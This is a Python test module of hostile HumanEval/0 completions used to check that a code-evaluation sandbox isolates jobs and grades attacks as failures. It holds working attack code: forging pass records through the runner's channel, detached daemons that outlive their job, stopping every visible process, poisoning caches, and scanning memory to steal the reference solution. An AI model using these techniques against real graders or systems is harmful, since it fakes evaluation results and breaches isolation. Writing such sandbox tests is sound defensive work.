"""Hostile completions for HumanEval/0 that aim at *other* jobs, the plan cache, memory remnants and state
that outlives a job (classes 1, 2, 3 and 6 of the v2 review), each a whole program.

Every attack must be graded fail while the gold solution graded next to it passes. Where an attack could
achieve something beyond its own verdict it returns a string starting with ``LEAK``. ``{cache}`` is the
run's plan cache directory, filled in by the test. Attacks find the child's result channel the way a real
one would: by scanning file descriptors, or by walking the stack to the runner's ``channel`` (which holds
the job's nonce).
"""

HEADER = "from typing import List\nimport os, sys, time, signal, json, ctypes\n"
CHANNEL = (  # the runner's Channel object (it carries this job's nonce), or None
    "def _channel():\n    frame = sys._getframe(1)\n    while frame is not None:\n"
    "        if 'channel' in frame.f_locals and hasattr(frame.f_locals['channel'], 'send'):\n"
    "            return frame.f_locals['channel']\n        frame = frame.f_back\n    return None\n")
FORGED = "[b'{\"i\": 0, \"ok\": true, \"t\": 0.0}\\n', b'{\"done\": 1}\\n', b'{\"end\": true}\\n', b'{\"passed\": true}\\n']"
SPRAY = (  # write forged records, without and with guessed nonces, to every descriptor that takes them
    "def _spray(rounds, pause):\n    lines = " + FORGED + "\n"
    "    lines += [b'{\"n\": \"' + (b'%024x' % k) + b'\", \"i\": 0, \"ok\": true}\\n' for k in range(4)]\n"
    "    for _ in range(rounds):\n        for fd in range(0, 256):\n            for line in lines:\n"
    "                try:\n                    os.write(fd, line)\n                except OSError:\n"
    "                    break\n        time.sleep(pause)\n")
DAEMON = (  # a detached grandchild that outlives the candidate unless the whole job tree is torn down
    "def _daemon(work):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
    "            try:\n                work()\n            finally:\n                os._exit(0)\n"
    "        os._exit(0)\n    os.wait()\n")
LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n"

ATTACKS = {
    # ---- class 1: one job reaching another job's channel, deadline or slot
    "daemon_sprays_records_into_later_jobs": DAEMON + SPRAY + (
        "def has_close_elements(numbers, threshold):\n    _daemon(lambda: _spray(400, 0.02))\n    return None\n"),
    "sleep_past_deadline_then_forge": SPRAY + CHANNEL + (
        "def has_close_elements(numbers, threshold):\n    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "    ch = _channel()\n    time.sleep(30)\n    if ch:\n        ch.send({{'i': 0, 'ok': True, 't': 0.0}})\n"
        "        ch.send({{'done': 1}})\n    _spray(1, 0)\n    return True\n"),
    "records_after_the_end_with_nonce": CHANNEL + (
        "def has_close_elements(numbers, threshold):\n    ch = _channel()\n    if ch is None:\n        return 'NO-CHANNEL'\n"
        "    ch.send({{'end': True}})\n    ch.send({{'i': 0, 'ok': False, 't': 0.0}})\n    return False\n"),
    "out_of_range_and_forged_kinds": CHANNEL + (
        "def has_close_elements(numbers, threshold):\n    ch = _channel()\n    if ch is None:\n        return 'NO-CHANNEL'\n"
        "    for rec in ({{'i': 10 ** 9, 'ok': 1}}, {{'site': 99999, 'args': [[], {{}}], 'ok': 1}}, {{'i': -1, 'ok': 1}},\n"
        "                {{'done': 10 ** 30}}, {{'passed': True}}, {{'ready': True}}):\n        ch.send(rec)\n    return True\n"),
    "wrong_nonce_records": (
        "def has_close_elements(numbers, threshold):\n    for fd in range(3, 64):\n        try:\n"
        "            os.write(fd, b'{{\"n\": \"000000000000000000000000\", \"i\": 0, \"ok\": false, \"t\": 0}}\\n')\n"
        "        except OSError:\n            pass\n    return False\n"),
    "stop_every_process_it_can_see": (
        "def has_close_elements(numbers, threshold):\n    hit = []\n"
        "    for pid in [-1, 0, 1, os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "        if pid in (os.getpid(), 0):\n            continue\n        try:\n"
        "            os.kill(pid, signal.SIGSTOP)\n            hit.append(pid)\n        except OSError:\n            pass\n"
        "    return 'stopped %s' % hit\n"),
    "sabotage_priority_affinity_limits": (
        "import resource\ndef has_close_elements(numbers, threshold):\n    done = []\n    for act in (\n"
        "        lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: os.setpriority(os.PRIO_PGRP, 0, 19),\n"
        "        lambda: os.sched_setaffinity(0, {{0}}),\n"
        "        lambda: resource.setrlimit(resource.RLIMIT_NPROC, (1, 1)),\n"
        "        lambda: [resource.prlimit(p, resource.RLIMIT_CPU, (1, 1)) for p in range(1, 64) if p != os.getpid()]):\n"
        "        try:\n            act()\n            done.append(1)\n        except (OSError, ValueError):\n            done.append(0)\n"
        "    return 'sabotaged %s' % done\n"),
    "fill_result_pipe_and_hang": (
        "import fcntl\ndef has_close_elements(numbers, threshold):\n    for fd in range(3, 16):\n        try:\n"
        "            fcntl.fcntl(fd, 1031, 1 << 20)\n        except OSError:\n            pass\n"
        "    while True:\n        for fd in range(3, 16):\n"
        "            try:\n                os.write(fd, b'x' * 65536)\n            except OSError:\n                pass\n"),
    # ---- class 2: poisoning expected outputs or their cache
    "forge_reference_site_records": CHANNEL + (
        "def has_close_elements(numbers, threshold):\n    ch = _channel()\n    if ch is None:\n        return 'NO-CHANNEL'\n"
        "    for k in range(20):\n        ch.send({{'site': k, 'args': [[[1.0], 0.5], {{}}], 'ok': True, 't': 0.0}})\n"
        "    ch.send({{'passed': True}})\n    return True\n"),
    "write_into_plan_caches": (
        "def has_close_elements(numbers, threshold):\n    home = os.path.expanduser('~')\n"
        "    for root in ({cache!r}, home + '/.cache/dare/code-plans', '/tmp/dare-0/code-plans', '/root/.cache/dare'):\n"
        "        try:\n            os.makedirs(root, exist_ok=True)\n"
        "            open(os.path.join(root, 'poison.json'), 'w').write('{{}}')\n"
        "            if not root.startswith('/tmp'):\n                return 'LEAK-cache ' + root\n"
        "        except OSError:\n            pass\n    return False\n"),
    "linger_to_poison_a_reference_run": DAEMON + (
        "def _watch():\n    end = time.time() + 8\n    while time.time() < end:\n"
        "        for pid in os.listdir('/proc'):\n            if not pid.isdigit() or int(pid) == os.getpid():\n"
        "                continue\n            try:\n                for fd in os.listdir('/proc/%s/fd' % pid):\n"
        "                    os.write(os.open('/proc/%s/fd/%s' % (pid, fd), os.O_WRONLY),\n"
        "                             b'{{\"site\": 0, \"args\": [[], {{}}], \"ok\": false}}\\n')\n"
        "            except OSError:\n                pass\n        time.sleep(0.01)\n"
        "def has_close_elements(numbers, threshold):\n    _daemon(_watch)\n"
        "    others = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]\n"
        "    return 'LEAK-procs %s' % others if len(others) > 2 else None\n"),
    # ---- class 3: memory remnants of earlier jobs (the gold neighbour's program, a reference solution)
    "scan_own_memory_for_the_reference": LIBC + (
        "import re, gc\n_NEEDLE = 'idx' + '2'\n_DEF = re.compile(rb'def has_close_elements\\(numbers[^\\x00]{{0,700}}')\n"
        "def _regions():\n    try:\n        with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:\n"
        "            for r in [l.split() for l in maps]:\n                lo, hi = (int(x, 16) for x in r[0].split('-'))\n"
        "                if 'r' in r[1] and hi - lo <= 64 << 20 and not (len(r) > 5 and r[5].startswith('[v')):\n"
        "                    try:\n                        mem.seek(lo)\n                        yield mem.read(hi - lo)\n"
        "                    except (OSError, OverflowError, ValueError, MemoryError):\n                        pass\n"
        "        return\n    except OSError:\n        pass\n"
        "    r, w = os.pipe()\n    os.set_blocking(w, False)\n"  # no /proc/self/mem: probe pages near the heap
        "    for base in sorted({{id(x) & ~0xFFFFF for x in (object(), 'x' * 300000, gc, re)}}):\n        run = []\n"
        "        for page in range(max(base - (16 << 20), 4096), base + (16 << 20), 4096):\n"
        "            if libc.write(w, ctypes.c_void_p(page), 4096) == 4096:\n                os.read(r, 4096)\n"
        "                run.append(ctypes.string_at(page, 4096))\n            elif run:\n"
        "                yield b''.join(run)\n                run = []\n        if run:\n            yield b''.join(run)\n"
        "def _texts():\n    for obj in gc.get_objects():\n        for v in (obj.values() if isinstance(obj, dict) else ()):\n"
        "            if isinstance(v, str) and _NEEDLE in v:\n                yield v.encode('latin1', 'ignore')\n"
        "    yield from _regions()\n"
        "def _steal():\n    for data in _texts():\n        for m in _DEF.finditer(data):\n"
        "            text = m.group(0).decode('latin1')\n            if _NEEDLE not in text:\n                continue\n"
        "            for cand in (text, text.encode('latin1').decode('unicode_escape', 'ignore')):\n"
        "                ns = {{'List': List}}\n                for cut in range(len(cand), 40, -1):\n                    try:\n"
        "                        exec(cand[:cut], ns)\n                        return ns['has_close_elements']\n"
        "                    except Exception:\n                        continue\n    return None\n"
        "_STOLEN = _steal()\n"
        "def has_close_elements(numbers, threshold):\n    return _STOLEN(numbers, threshold) if _STOLEN else None\n"),
    "scan_gc_for_other_payloads": (
        "import gc\nTOKEN = 'ATTACK' + '-TOKEN-14'\ndef has_close_elements(numbers, threshold):\n    hits = []\n"
        "    for obj in gc.get_objects():\n        try:\n            values = list(obj.values()) if isinstance(obj, dict) else list(obj) if isinstance(obj, (list, tuple)) else []\n"
        "        except Exception:\n            continue\n        for v in values:\n"
        "            if isinstance(v, (str, bytes)) and (b'idx2' if isinstance(v, bytes) else 'idx2') in v:\n"
        "                text = v if isinstance(v, str) else v.decode('latin1')\n"
        "                if 'ATTACK-TOKEN' not in text and 'enumerate' in text:\n                    hits.append(text[:80])\n"
        "    return 'LEAK-gc %r' % hits[:1] if hits else None\n"),
    "read_other_process_memory": LIBC + (
        "def has_close_elements(numbers, threshold):\n    for pid in [os.getppid(), 1, 2, 3] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "        if pid == os.getpid():\n            continue\n        for name in ('mem', 'environ'):\n            try:\n"
        "                data = open('/proc/%d/%s' % (pid, name), 'rb').read(4096)\n                if data:\n"
        "                    return 'LEAK-proc %d %s' % (pid, name)\n            except OSError:\n                pass\n"
        "    buf = ctypes.create_string_buffer(64)\n    class IoVec(ctypes.Structure):\n"
        "        _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
        "    local = IoVec(ctypes.addressof(buf), 64)\n    remote = IoVec(0x400000, 64)\n"
        "    if libc.process_vm_readv(os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:\n"
        "        return 'LEAK-vm'\n    return None\n"),
    # ---- class 6: state that survives a job or a run
    "unlistable_tmp_dir_and_fill": (
        "def has_close_elements(numbers, threshold):\n    for root in ('/tmp', '/dev/shm'):\n        try:\n"
        "            os.mkdir(root + '/.keep')\n            open(root + '/.keep/planted', 'w').write('x')\n"
        "            os.chmod(root + '/.keep', 0o300)\n        except OSError:\n            pass\n        k = 0\n"
        "        try:\n            while k < 400:\n                with open('%s/fill%d' % (root, k), 'wb') as f:\n"
        "                    f.write(b'0' * (1 << 20))\n                k += 1\n        except OSError:\n            pass\n"
        "    return None\n"),
    "sysv_and_posix_ipc_objects": LIBC + (
        "def has_close_elements(numbers, threshold):\n    made = []\n"
        "    made.append(libc.shmget(0x5eed, 64 << 20, 0o1666))\n    made.append(libc.msgget(0x5eed, 0o1666))\n"
        "    made.append(libc.semget(0x5eed, 1, 0o1666))\n    made.append(libc.syscall(240, b'dare', 0o100 | 2, 0o666, None))\n"
        "    try:\n        from multiprocessing import shared_memory\n"
        "        shared_memory.SharedMemory(name='dare-planted', create=True, size=1 << 20)\n        made.append('posix')\n"
        "    except Exception:\n        pass\n    return 'made %s' % made\n"),
    "kernel_keyring_plant": LIBC + (
        "def has_close_elements(numbers, threshold):\n    ids = []\n    for ring in (-4, -3, -2):  # user, session, process keyrings\n"
        "        ids.append(libc.syscall(248, b'user', b'dare-planted', b'answer', 6, ring))\n"
        "    return 'LEAK-key %s' % ids if max(ids) > 0 else None\n"),
    "memfd_page_hog": (
        "def has_close_elements(numbers, threshold):\n    fds = []\n    try:\n        for _ in range(64):\n"
        "            fd = os.memfd_create('hog')\n            os.ftruncate(fd, 64 << 20)\n"
        "            os.pwrite(fd, b'1' * (1 << 20), 0)\n            fds.append(fd)\n    except OSError:\n        pass\n"
        "    return 'LEAK-memfd %d' % len(fds) if fds else None\n"),
    "create_user_namespace": LIBC + (
        "def has_close_elements(numbers, threshold):\n    if libc.unshare(0x10000000) == 0:\n        return 'LEAK-userns'\n"
        "    pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\n    if pid == 0:\n        os._exit(0)\n"
        "    if pid > 0:\n        return 'LEAK-clone-userns'\n    import subprocess\n    try:\n"
        "        if subprocess.run(['unshare', '-U', 'true'], capture_output=True).returncode == 0:\n"
        "            return 'LEAK-unshare-cmd'\n    except OSError:\n        pass\n    return None\n"),
    "daemon_keeps_tmp_alive": DAEMON + (
        "def _touch():\n    end = time.time() + 8\n    while time.time() < end:\n        try:\n"
        "            open('/tmp/alive', 'w').write(str(time.time()))\n            open('/dev/shm/alive', 'w').write('x')\n"
        "        except OSError:\n            pass\n        time.sleep(0.01)\n"
        "def has_close_elements(numbers, threshold):\n    _daemon(_touch)\n    return None\n"),
    "read_installed_packages": (
        "def has_close_elements(numbers, threshold):\n    seen = []\n    import sysconfig\n"
        "    for path in {{sysconfig.get_paths()['purelib'], sys.base_prefix + '/lib/python3.11/site-packages',\n"
        "                 '/usr/lib/python3/dist-packages', '/usr/local/lib/python3.11/dist-packages'}}:\n"
        "        try:\n            seen += [n for n in os.listdir(path) if not n.startswith('.')]\n        except OSError:\n            pass\n"
        "    for name in ('torch', 'transformers', 'evalplus', 'pytest'):\n        try:\n            __import__(name)\n"
        "            seen.append('import ' + name)\n        except ImportError:\n            pass\n"
        "    return 'LEAK-site %s' % seen[:5] if seen else None\n"),
}
CLASSES = {name: cls for cls, names in {
    1: ["daemon_sprays_records_into_later_jobs", "sleep_past_deadline_then_forge", "records_after_the_end_with_nonce",
        "out_of_range_and_forged_kinds", "wrong_nonce_records", "stop_every_process_it_can_see",
        "sabotage_priority_affinity_limits", "fill_result_pipe_and_hang"],
    2: ["forge_reference_site_records", "write_into_plan_caches", "linger_to_poison_a_reference_run"],
    3: ["scan_own_memory_for_the_reference", "scan_gc_for_other_payloads", "read_other_process_memory"],
    6: ["unlistable_tmp_dir_and_fill", "sysv_and_posix_ipc_objects", "kernel_keyring_plant", "memfd_page_hog",
        "create_user_namespace", "daemon_keeps_tmp_alive", "read_installed_packages"],
}.items() for name in names}

# A job in the same slot after the attacks: what of them is left? (trusted test code, run directly)
INSPECT = '''
import os
def inspect():
    def listing(root):
        try:
            return sorted(os.listdir(root))
        except OSError as exc:
            return ["unreadable " + type(exc).__name__]
    def text(path):
        try:
            return open(path).read()
        except OSError:
            return ""
    ipc = [line for name in ("shm", "msg", "sem") for line in text("/proc/sysvipc/" + name).splitlines()[1:]]
    procs = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    return {"tmp": listing("/tmp"), "shm": listing("/dev/shm"), "ipc": ipc, "procs": procs,
            "keys": [line for line in text("/proc/keys").splitlines() if "dare-planted" in line], "nice": os.nice(0),
            "affinity": len(os.sched_getaffinity(0))}
'''


def render(name: str, cache: str, prefix: str = "") -> str:
    """The completion of attack ``name``; ``prefix`` is extra code in front (positive controls)."""
    body = ATTACKS[name].replace("{cache!r}", repr(cache)).replace("{{", "{").replace("}}", "}")
    return "```python\n" + HEADER + prefix + body + "```\n"
